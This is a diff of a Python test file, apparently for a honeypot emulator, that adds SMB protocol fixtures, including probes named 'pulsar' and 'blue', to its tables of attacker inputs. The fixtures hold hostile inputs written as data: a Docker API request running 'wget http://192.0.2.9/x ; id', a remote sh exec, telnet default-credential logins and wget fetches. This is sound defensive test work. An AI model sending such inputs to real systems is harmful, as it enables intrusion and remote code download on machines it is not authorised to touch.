@@ -20,7 +20,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import rdp_client, ssh_client
+from protocols import rdp_client, smb_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -60,6 +60,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
+    "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
@@ -101,6 +102,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
         b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
     ),
+    "smb": (
+        smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
+        smb_client.pulsar(0x23), smb_client.blue(bytes(9000))[0], smb_client.blue(bytes(9000))[1][:60],
+        smb_client.blue(bytes(9000))[1][60:], smb_client.negotiate2(0x0210), smb_client.login2(smb_client.hello()),
+    ),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
     "vnc": tuple(VNC),
@@ -119,7 +125,6 @@ WORDS = [
     b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
-    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
     b"PWD", b"TID", b"SFT053\0abc", b"\x85\x13\x3c\x9e\xa2", b"UPDF\5\0\0\0a\0", b"022\xac\r\n", b"C:\\a\r\n3\r\n",
     b"\0\x0c\0\6\1\0\0\1\0\0\0\0\0\0", b"\0\6\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1", b"\x1b" + bytes(47),
     b"\x17\0\3\x2a" + bytes(4), b"\x10\x0c\0\4MQTT\4\2\0\0\0\0", b"\x82\6\0\1\0\1#\0", b"\x33\7\0\1a\0\1hi",
@@ -132,6 +137,9 @@ WORDS = [
     rdp_client.request(), rdp_client.connect("a"), rdp_client.ATTACH,
     rdp_client.send(1003, rdp_client.info("a", "b", "c")),
     b"\1", b"\2", b"\3\0\0\0\0\0\0\x09\0\x09", b"\4\1\0\0\0\0\0a", b"\6\0\0\0\0\0\0\3abc",
+    smb_client.look(), smb_client.pulsar(0xC8), *smb_client.OPENING1, smb_client.negotiate2(0x0202),
+    smb_client.login2(smb_client.hello()), smb_client.smb2(5, bytes(60)), smb_client.BIND_ALIVE, b"\xfeSMB", b"\xffSMB",
+    smb_client.request(3, bytes(8)), b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
